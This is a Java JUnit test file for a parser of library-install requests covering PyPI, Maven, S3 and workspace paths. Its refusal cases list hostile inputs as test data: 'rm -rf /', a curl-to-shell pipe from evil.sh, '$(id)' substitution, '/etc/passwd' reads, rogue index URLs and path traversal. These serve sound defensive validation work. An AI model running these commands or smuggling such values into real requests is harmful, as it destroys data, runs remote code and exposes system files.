package com.darwin.compute.core.library;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.darwin.compute.core.domain.InvalidRequestException;
import com.darwin.compute.model.library.InstallRequest;
import com.darwin.compute.model.library.LibraryBody;
import com.darwin.compute.model.library.LibrarySource;
import com.darwin.compute.model.library.LibraryType;
import com.darwin.compute.model.library.MavenMetadata;
import java.time.Duration;
import java.util.Collections;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class LibraryGrammarTest {

  private static final LibraryProperties PROPERTIES =
      new LibraryProperties(
          Duration.ofMinutes(15),
          50,
          "/home/ray/darwin_pkgs",
          "https://repo1.maven.org/maven2",
          "https://repos.spark-packages.org");
  private static final String WORKSPACE = "/home/ray/fsx";

  private static LibrarySpec parse(InstallRequest request) {
    return LibraryGrammar.parse(request, "", PROPERTIES, WORKSPACE);
  }

  private static String refusedField(InstallRequest request) {
    try {
      parse(request);
    } catch (InvalidRequestException e) {
      return e.errors().get(0).field();
    }
    throw new AssertionError("accepted: " + request);
  }

  @Test
  void pypiNamesVersionsAndSpecifiers() {
    LibrarySpec plain = parse(InstallRequest.pypi("pandas", "2.2.2"));
    assertThat(plain.name()).isEqualTo("pandas");
    assertThat(plain.version()).isEqualTo("==2.2.2");
    assertThat(plain.type()).isEqualTo(LibraryType.PYPI);
    assertThat(parse(InstallRequest.pypi("scikit-learn", ">=1.3, <2")).version())
        .isEqualTo(">=1.3,<2");
    assertThat(parse(InstallRequest.pypi("ray[data, train]>=2.9", null)).name())
        .isEqualTo("ray[data,train]");
    assertThat(parse(InstallRequest.pypi("zope.interface", null)).version()).isNull();
    LibrarySpec indexed =
        parse(
            new InstallRequest(
                LibrarySource.PYPI,
                new LibraryBody("torch", "https://download.pytorch.org/whl/cpu", "2.3.0", null)));
    assertThat(indexed.path()).isEqualTo("https://download.pytorch.org/whl/cpu");
  }

  @Test
  void theSamePypiLibraryWrittenDifferentlyHasTheSameKey() {
    assertThat(parse(InstallRequest.pypi("Scikit_Learn", "1.5.0")).key())
        .isEqualTo(parse(InstallRequest.pypi("scikit-learn", "1.5.0")).key());
    assertThat(parse(InstallRequest.pypi("pandas", "1.0")).key())
        .isNotEqualTo(parse(InstallRequest.pypi("pandas", "2.0")).key());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "pandas; rm -rf /",
        "pandas && curl evil.sh | sh",
        "$(id)",
        "`id`",
        "--index-url=https://evil.example/simple",
        "-r /etc/passwd",
        "pandas @ https://evil.example/p.whl",
        "pandas==1.0; python_version>'3'",
        "pandas\nos",
        "pan das",
        "pandas'",
        ""
      })
  void pypiNamesThatAreNotPep508AreRefusedNamingTheField(String name) {
    assertThat(refusedField(InstallRequest.pypi(name, null))).isEqualTo("body.name");
  }

  /** pip installs a name of this shape as a file from the pod's working directory. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "evil.whl",
        "pkg.zip",
        "pkg.tar",
        "pkg-1.0.tar.gz",
        "pkg.TGZ",
        "pkg.tar.bz2",
        "pkg.tbz",
        "pkg.tar.xz",
        "pkg.txz",
        "pkg.tlz",
        "pkg.tar.lz",
        "pkg.tar.lzma",
        "evil.whl[extra]==1.0"
      })
  void pypiNamesThatPipReadsAsArchiveFilesAreRefused(String name) {
    assertThatThrownBy(() -> parse(InstallRequest.pypi(name, null)))
        .isInstanceOfSatisfying(
            InvalidRequestException.class,
            e -> {
              assertThat(e.errors().get(0).field()).isEqualTo("body.name");
              assertThat(e.errors().get(0).message()).contains("file name", "s3", "workspace");
            });
  }

  @ParameterizedTest
  @ValueSource(strings = {"zipp", "backports.tarfile", "py.test", "whl2conda", "my.zipfile", "tar"})
  void pypiNamesThatOnlyContainAnArchiveWordAreAccepted(String name) {
    assertThat(parse(InstallRequest.pypi(name, null)).name()).isEqualTo(name);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "1.0; ls",
        "$(id)",
        "--pre",
        ">=1 || ls",
        "1.0\n",
        "1 .0",
        "1..x",
        "1.0.",
        ".1",
        "latest",
        "1.0-beta-x",
        "1.*.2",
        ">=1.*",
        "~=1.0+local.*",
        "==1.0+",
        "==",
        ">=1.0,",
        "1.0,<2"
      })
  void pypiVersionsThatAreNotPep440AreRefused(String version) {
    assertThat(refusedField(InstallRequest.pypi("pandas", version))).isEqualTo("body.version");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "2.2.2",
        "v1.0",
        "1!2.0",
        "1.0a1",
        "1.0-alpha.2",
        "1.0rc1",
        "1.0.post1",
        "1.0-1",
        "1.0.dev3",
        "1.0a1.post2.dev3",
        "2.3.0+cpu",
        "1.0+ubuntu.1",
        "1.2.*",
        "1.0RC1",
        "==1.2.*",
        "!=1.3.*",
        "~=1.4.2",
        ">=1.0, <2, !=1.5.1",
        "===1.0-custom"
      })
  void pypiVersionsOfPep440AreAccepted(String version) {
    // A bare version is pinned with ==; a specifier is kept, without its spaces.
    String expected =
        version.matches("^[0-9v].*") ? "==" + version : version.replaceAll("\\s+", "");
    assertThat(parse(InstallRequest.pypi("pandas", version)).version()).isEqualTo(expected);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "ftp://x.example/simple",
        "https://x.example/simple;ls",
        "https://x.example/simple?$(id)",
        "--extra-index-url",
        "https://x.example/a b",
        "file:///etc"
      })
  void pypiIndexUrlsMustBeHttp(String url) {
    assertThat(
            refusedField(
                new InstallRequest(LibrarySource.PYPI, new LibraryBody("pandas", url, null, null))))
        .isEqualTo("body.path");
  }

  @Test
  void mavenCoordinatesRepositoriesAndExclusions() {
    LibrarySpec spec =
        parse(
            InstallRequest.maven(
                "org.apache.spark:spark-sql_2.12",
                "3.5.3",
                new MavenMetadata("spark", "org.slf4j:*, log4j:log4j")));
    assertThat(spec.name()).isEqualTo("org.apache.spark:spark-sql_2.12");
    assertThat(spec.version()).isEqualTo("3.5.3");
    assertThat(spec.repository()).isEqualTo("https://repos.spark-packages.org");
    assertThat(spec.exclusions()).containsExactly("org.slf4j:*", "log4j:log4j");
    assertThat(spec.type()).isEqualTo(LibraryType.MAVEN_JAR);
    assertThat(
            parse(InstallRequest.maven("com.google.guava:guava:33.2.1-jre", null, null)).version())
        .isEqualTo("33.2.1-jre");
    assertThat(
            parse(
                    InstallRequest.maven(
                        "a.b:c", "1", new MavenMetadata("https://maven.example.com/repo", null)))
                .repository())
        .isEqualTo("https://maven.example.com/repo");
  }

  @Test
  void badMavenValuesAreRefusedNamingTheField() {
    assertThat(refusedField(InstallRequest.maven("guava", "1", null))).isEqualTo("body.name");
    assertThat(refusedField(InstallRequest.maven("a:b;ls", "1", null))).isEqualTo("body.name");
    assertThat(refusedField(InstallRequest.maven("-Dx=y:b", "1", null))).isEqualTo("body.name");
    assertThat(refusedField(InstallRequest.maven("a:b", null, null))).isEqualTo("body.version");
    assertThat(refusedField(InstallRequest.maven("a:b", "1$(id)", null))).isEqualTo("body.version");
    assertThat(
            refusedField(
                InstallRequest.maven("a:b", "1", new MavenMetadata("http://x.example", null))))
        .isEqualTo("body.metadata.repository");
    assertThat(refusedField(InstallRequest.maven("a:b", "1", new MavenMetadata("maven", "x;y"))))
        .isEqualTo("body.metadata.exclusions");
    // Each one well-formed, but more than a row and an exec request should carry.
    String many = String.join(",", Collections.nCopies(120, "org.example:excluded"));
    assertThat(refusedField(InstallRequest.maven("a:b", "1", new MavenMetadata("maven", many))))
        .isEqualTo("body.metadata.exclusions");
    String fits = String.join(",", Collections.nCopies(40, "org.example:excluded"));
    assertThat(
            parse(InstallRequest.maven("a:b", "1", new MavenMetadata("maven", fits))).exclusions())
        .hasSize(40);
  }

  @Test
  void s3UrisByExtension() {
    assertThat(parse(InstallRequest.s3("s3://my-bucket/libs/pkg-1.0-py3-none-any.whl")).type())
        .isEqualTo(LibraryType.WHL);
    assertThat(parse(InstallRequest.s3("s3://my-bucket/req.txt")).type())
        .isEqualTo(LibraryType.TXT);
    assertThat(parse(InstallRequest.s3("s3://my-bucket/x.jar")).type()).isEqualTo(LibraryType.JAR);
    assertThat(parse(InstallRequest.s3("s3://my-bucket/x.zip")).type()).isEqualTo(LibraryType.ZIP);
    assertThat(parse(InstallRequest.s3("s3://my-bucket/x.tar")).type()).isEqualTo(LibraryType.TAR);
    LibrarySpec gz = parse(InstallRequest.s3("s3://my-bucket/a/b/x.tar.gz"));
    assertThat(gz.type()).isEqualTo(LibraryType.GZ);
    assertThat(gz.name()).isEqualTo("x.tar.gz");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "s3://bucket/x.exe",
        "s3://Bucket/x.whl",
        "s3://bucket/../x.whl",
        "s3://bucket//x.whl",
        "s3://bucket/x.whl;ls",
        "s3://bucket/$(id).whl",
        "s3://bucket/a b.whl",
        "s3://bucket/-rf.whl",
        "https://bucket/x.whl",
        "s3://bucket/x'.whl"
      })
  void badS3UrisAreRefused(String uri) {
    assertThat(refusedField(InstallRequest.s3(uri))).isEqualTo("body.path");
  }

  @Test
  void valuesLongerThanTheirRowAreRefusedWithTheirField() {
    // The key grammar allows 1,000 characters; the file name is stored as the library's name.
    assertThat(refusedField(InstallRequest.s3("s3://bucket/" + "a".repeat(300) + ".whl")))
        .isEqualTo("body.path");
    assertThat(refusedField(InstallRequest.workspace("d/" + "a".repeat(300) + ".jar")))
        .isEqualTo("body.path");
    // The longest bucket (63) and a key the grammar allows (1,000): 1,069 characters in all.
    String bucket = "b" + "u".repeat(61) + "k";
    String key = "a/".repeat(497) + "x.whl";
    assertThat(key).hasSizeLessThanOrEqualTo(1000);
    assertThat(("s3://" + bucket + "/" + key).length()).isGreaterThan(1024);
    assertThat(refusedField(InstallRequest.s3("s3://" + bucket + "/" + key)))
        .isEqualTo("body.path");
    assertThat(parse(InstallRequest.s3("s3://bucket/" + "a".repeat(250) + ".whl")).name())
        .hasSize(254);
  }

  @Test
  void workspacePathsAreRelativeToTheVolume() {
    assertThat(parse(InstallRequest.workspace("projects/demo/requirements.txt")).path())
        .isEqualTo("projects/demo/requirements.txt");
    assertThat(parse(InstallRequest.workspace("/home/ray/fsx/projects/lib.whl")).path())
        .isEqualTo("projects/lib.whl");
    for (String bad :
        List.of(
            "/etc/passwd.txt", "../x.whl", "a/../../x.whl", "a/$(id).whl", "a/-x.whl", "a;b.whl")) {
      assertThat(refusedField(InstallRequest.workspace(bad))).as(bad).isEqualTo("body.path");
    }
  }

  @Test
  void aMissingSourceOrBodyIsNamed() {
    assertThat(refusedField(new InstallRequest(null, new LibraryBody("x", null, null, null))))
        .isEqualTo("source");
    assertThat(refusedField(new InstallRequest(LibrarySource.PYPI, null))).isEqualTo("body");
    assertThatThrownBy(() -> parse(null)).isInstanceOf(InvalidRequestException.class);
  }
}
